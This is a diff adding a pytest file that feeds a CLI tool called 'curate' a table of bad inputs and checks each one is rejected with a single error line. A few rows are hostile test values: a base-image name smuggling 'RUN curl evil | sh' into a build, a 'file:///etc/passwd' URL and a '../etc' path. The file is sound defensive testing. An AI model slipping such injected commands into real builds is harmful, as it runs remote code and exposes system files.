@@ -1,0 +1,215 @@
+"""A table of bad inputs, one real `curate` command line each (in-process `main.run`).
+
+For every row: the exit code from the table in `cosmos_curate.cli.errors` (2: rejected
+before anything started), exactly one stderr line starting `error:` that names the option,
+file or port, no traceback, nothing created in the working folders, no process left.
+A few rows run as subprocesses too, as a user's shell runs them.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import os
+import socket
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import attrs
+import psutil
+import pytest
+
+from cosmos_curate.cli.main import run
+from cosmos_curate.models.tiny_random_gpt2 import save_tiny_gpt2
+
+
+@attrs.frozen
+class Row:
+    """One bad input: the arguments (with placeholders), what the error line must contain."""
+
+    id: str
+    args: tuple[str, ...]
+    names: tuple[str, ...]
+    code: int = 2
+    env: tuple[tuple[str, str], ...] = ()
+
+
+HW = ("pipeline", "run", "hello-world")
+IMG = ("image", "build", "--envs", "transformers", "--dry-run")
+CLS = ("cluster", "start", "--state-file", "{tmp}/state.json")
+ROWS = [
+    # markup in user text is printed literally
+    Row("markup-name", ("pipeline", "run", "x[red]y"), ("x[red]y",)),
+    Row("markup-close", ("pipeline", "run", "x[/]y"), ("x[/]y",)),
+    Row("emoji-name", ("pipeline", "run", ":smile:"), (":smile:",)),
+    Row("unknown-command", ("nosuch",), ("nosuch",)),
+    Row("unknown-option", (*HW, "--bogus"), ("--bogus",)),
+    # numbers: negative, inf, nan, not a number
+    Row("cpus-negative", (*HW, "--num-cpus", "-1"), ("--num-cpus",)),
+    Row("cpus-inf", (*HW, "--num-cpus", "inf"), ("--num-cpus",)),
+    Row("cpus-nan", (*HW, "--num-cpus", "nan"), ("--num-cpus",)),
+    Row("cpus-text", (*HW, "--num-cpus", "abc"), ("--num-cpus",)),
+    Row("gpus-negative", (*HW, "--num-gpus", "-0.5"), ("--num-gpus",)),
+    Row("gpus-inf", (*HW, "--num-gpus", "inf"), ("--num-gpus",)),
+    Row("tokens-zero", (*HW, "--max-new-tokens", "0"), ("--max-new-tokens",)),
+    Row("tokens-text", (*HW, "--max-new-tokens", "many"), ("--max-new-tokens",)),
+    Row("tokens-huge", (*HW, "--max-new-tokens", "100000"), ("--max-new-tokens",)),
+    # ports
+    Row("port-too-big", (*HW, "--metrics-port", "70000"), ("--metrics-port", "70000")),
+    Row("port-negative", (*HW, "--metrics-port", "-1"), ("--metrics-port",)),
+    Row("port-busy", (*HW, "--metrics-port", "{busy}"), ("--metrics-port", "{busy}")),
+    Row("port-text", (*HW, "--metrics-port", "http"), ("--metrics-port",)),
+    # paths
+    Row("failures-is-dir", (*HW, "--failures-path", "{tmp}"), ("--failures-path",)),
+    Row("failures-under-file", (*HW, "--failures-path", "{file}/x.jsonl"), ("--failures-path",)),
+    Row("checkpoint-is-file", (*HW, "--checkpoint-dir", "{file}"), ("--checkpoint-dir",)),
+    Row("checkpoint-under-file", (*HW, "--checkpoint-dir", "{file}/c"), ("--checkpoint-dir",)),
+    Row("resume-alone", (*HW, "--resume"), ("--resume", "--checkpoint-dir")),
+    Row("weights-missing", (*HW, "--num-cpus", "1"), ("curate model download",),
+        env=(("CURATE_WEIGHTS_DIR", "{tmp}/noweights"),)),
+    Row("bind-host", HW, ("CURATE_BIND_HOST",), env=(("CURATE_BIND_HOST", "banana"),)),
+    Row("plugin-module", ("pipeline", "list"), ("no_such_plugin_mod",),
+        env=(("CURATE_PIPELINE_MODULES", "no_such_plugin_mod"),)),
+    Row("ray-address-down", (*HW, "--ray-address", "127.0.0.1:{free}"), ("127.0.0.1:{free}",)),
+    Row("ray-address-garbage", (*HW, "--ray-address", "not an address"), ("not an address",)),
+    # model registry
+    Row("registry-not-utf8", ("model", "list", "--models-config", "{nonutf8}"), ("{nonutf8}",)),
+    Row("registry-missing", ("model", "list", "--models-config", "{tmp}/none.json"),
+        ("{tmp}/none.json",)),
+    Row("registry-bad-json", ("model", "list", "--models-config", "{badjson}"), ("{badjson}",)),
+    Row("registry-is-dir", ("model", "list", "--models-config", "{tmp}"), ("--models-config",)),
+    Row("model-unknown", ("model", "download", "--models", "nosuchmodel"), ("nosuchmodel",)),
+    # image
+    Row("env-bad-name", ("image", "build", "--envs", "../etc", "--dry-run"), ("../etc",)),
+    Row("env-unknown", ("image", "build", "--envs", "nosuchenv", "--dry-run"), ("nosuchenv",)),
+    Row("base-image-newline", (*IMG, "--base-image", "ubuntu\nRUN curl evil | sh"),
+        ("--base-image",)),
+    Row("base-image-upper", (*IMG, "--base-image", "Ubuntu"), ("--base-image",)),
+    Row("base-image-space", (*IMG, "--base-image", "ubuntu 22.04"), ("--base-image",)),
+    Row("image-tag-space", ("image", "build", "--envs", "transformers", "--image-tag", "a b"),
+        ("--image-tag",)),
+    Row("image-name-upper", ("image", "build", "--envs", "transformers", "--image-name", "A"),
+        ("--image-name",)),
+    Row("buildkit-no-dry-run", ("image", "build", "--envs", "transformers", "--buildkit"),
+        ("--buildkit",)),
+    # cluster
+    Row("cluster-cpus-negative", (*CLS, "--num-cpus", "-2"), ("--num-cpus",)),
+    Row("cluster-cpus-nan", (*CLS, "--num-cpus", "nan"), ("--num-cpus",)),
+    Row("cluster-workers-negative", (*CLS, "--workers", "-1"), ("--workers",)),
+    Row("cluster-memory-inf", (*CLS, "--memory-gb", "inf"), ("--memory-gb",)),
+    Row("cluster-port-range", (*CLS, "--port", "70000"), ("--port",)),
+    Row("cluster-metrics-port-range", (*CLS, "--metrics-port", "99999"), ("--metrics-port",)),
+    Row("cluster-auth", (*CLS, "--auth", "bogus"), ("bogus",)),
+    Row("cluster-client-port-worker-range", (*CLS, "--client-port", "12000"), ("12000",)),
+    Row("cluster-head-ip", (*CLS, "--head-ip", "127.0.0.2"), ("--head-ip",)),
+    Row("cluster-object-store", (*CLS, "--object-store-mb", "1"), ("--object-store-mb",)),
+    Row("cluster-stop-none", ("cluster", "stop", "--state-file", "{tmp}/none.json"),
+        ("{tmp}/none.json",)),
+    Row("cluster-status-none", ("cluster", "status", "--state-file", "{tmp}/none.json"),
+        ("{tmp}/none.json",)),
+    # metrics tail
+    Row("tail-file-url", ("metrics", "tail", "--once", "--url", "file:///etc/passwd"),
+        ("--url",)),
+    Row("tail-ftp-url", ("metrics", "tail", "--once", "--url", "ftp://127.0.0.1/m"), ("--url",)),
+    Row("tail-interval", ("metrics", "tail", "--interval", "0"), ("--interval",)),
+    Row("tail-nothing-there", ("metrics", "tail", "--once", "--url",
+        "http://127.0.0.1:{free}/metrics"), ("127.0.0.1:{free}",), code=1),
+]
+
+
+@pytest.fixture(scope="module")
+def places(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
+    """Files the rows point at, tiny GPT-2 weights (so nothing else stops a run), a busy port."""
+    root = tmp_path_factory.mktemp("bad")
+    (root / "afile").write_text("x")
+    (root / "nonutf8.json").write_bytes(b"\xff\xfe{\x00")
+    (root / "bad.json").write_text("{not json")
+    save_tiny_gpt2(root / "weights" / "openai-community" / "gpt2")
+    with socket.socket() as busy:
+        busy.bind(("127.0.0.1", 0))
+        busy.listen()
+        with socket.socket() as unused:
+            unused.bind(("127.0.0.1", 0))
+            free = unused.getsockname()[1]
+        yield {
+            "root": str(root),
+            "file": str(root / "afile"),
+            "nonutf8": str(root / "nonutf8.json"),
+            "badjson": str(root / "bad.json"),
+            "busy": str(busy.getsockname()[1]),
+            "free": str(free),
+        }
+
+
+def _fill(text: str, places: dict[str, str], tmp: Path) -> str:
+    return text.format(tmp=tmp, **places)
+
+
+def _tree(path: Path) -> set[str]:
+    return {str(p) for p in path.rglob("*")}
+
+
+def _processes() -> set[int]:
+    return {p.pid for p in psutil.Process().children(recursive=True)}
+
+
+@pytest.mark.parametrize("row", ROWS, ids=[r.id for r in ROWS])
+def test_bad_input_is_one_error_line(
+    row: Row, places: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Exit code from the table, one `error:` line naming the culprit, nothing left over."""
+    work = tmp_path / "work"
+    work.mkdir()
+    monkeypatch.chdir(work)
+    monkeypatch.setenv("CURATE_WEIGHTS_DIR", str(Path(places["root"]) / "weights"))
+    monkeypatch.setenv("CURATE_RUNS_DIR", str(work / "runs"))
+    monkeypatch.setenv("CURATE_CLUSTER_STATE", str(work / "cluster-state.json"))
+    monkeypatch.delenv("RAY_ADDRESS", raising=False)
+    monkeypatch.delenv("CURATE_BIND_HOST", raising=False)
+    for key, value in row.env:
+        monkeypatch.setenv(key, _fill(value, places, work))
+    args = [_fill(a, places, work) for a in row.args]
+    before_files, before_procs = _tree(tmp_path), _processes()
+    stdout, stderr = io.StringIO(), io.StringIO()
+    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
+        code = run(args)
+    errors = [line for line in stderr.getvalue().splitlines() if line.startswith("error:")]
+    assert code == row.code, stderr.getvalue()
+    assert len(errors) == 1, stderr.getvalue()
+    for name in row.names:
+        assert _fill(name, places, work) in errors[0]
+    assert "Traceback" not in stderr.getvalue() + stdout.getvalue()
+    assert _tree(tmp_path) == before_files, "a rejected command created files"
+    assert _processes() <= before_procs, "a rejected command left a process"
+
+
+SUBPROCESS_ROWS = ["markup-close", "cpus-nan", "port-busy", "base-image-newline", "unknown-option"]
+
+
+@pytest.mark.parametrize("row_id", SUBPROCESS_ROWS)
+def test_bad_input_in_a_real_shell(row_id: str, places: dict[str, str], tmp_path: Path) -> None:
+    """The same rows as a separate `curate` process: same code and line, stdout empty."""
+    row = next(r for r in ROWS if r.id == row_id)
+    env = {
+        **os.environ,
+        "CURATE_RUNS_DIR": str(tmp_path / "runs"),
+        "CURATE_WEIGHTS_DIR": str(Path(places["root"]) / "weights"),
+        "COLUMNS": "60",
+    }
+    args = [_fill(a, places, tmp_path) for a in row.args]
+    result = subprocess.run(
+        [sys.executable, "-m", "cosmos_curate.cli.main", *args],
+        capture_output=True, text=True, env=env, timeout=120, check=False,
+    )  # fmt: skip
+    assert result.returncode == row.code, result.stderr
+    lines = [line for line in result.stderr.splitlines() if line.strip()]
+    assert len(lines) == 1 and lines[0].startswith("error:"), result.stderr
+    assert result.stdout == ""
+    assert not (tmp_path / "runs").exists()
+
+
+def test_table_is_large_enough() -> None:
+    """The issue asks for 40+ rows covering every class of bad input."""
+    assert len(ROWS) >= 40
